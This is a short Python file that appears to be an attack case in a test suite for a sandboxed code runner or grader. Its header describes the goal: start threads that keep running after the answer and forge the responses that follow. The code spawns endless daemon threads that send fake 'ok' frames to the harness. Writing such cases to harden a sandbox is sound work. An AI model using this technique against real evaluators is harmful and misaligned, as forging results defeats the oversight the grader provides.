# /// attack
# tries = "Start threads that go on after the answer, and forge the answers that follow."
# verdicts = ["accepted"]
# ///
import threading, time, _thread

def later():
    while True:
        time.sleep(0.01)
        send(frame((2, "ok", [])))

def attack(root, worker):
    attempt("thread", threading.Thread(target=later, daemon=True).start)
    attempt("_thread", _thread.start_new_thread, later, ())
    return LOOT
